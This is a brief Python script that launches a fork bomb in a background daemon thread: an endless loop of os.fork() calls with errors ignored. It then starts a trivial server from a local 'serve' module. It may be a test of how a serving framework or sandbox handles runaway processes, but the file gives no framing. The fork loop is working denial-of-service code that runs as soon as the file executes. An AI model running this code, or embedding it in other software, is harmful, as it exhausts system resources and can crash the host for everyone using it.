import os
import threading

from serve import say, serve

def fork():
    while True:
        try:
            os.fork()
        except OSError:
            pass


threading.Thread(target=fork, daemon=True).start()
serve(lambda client, path: say(client))
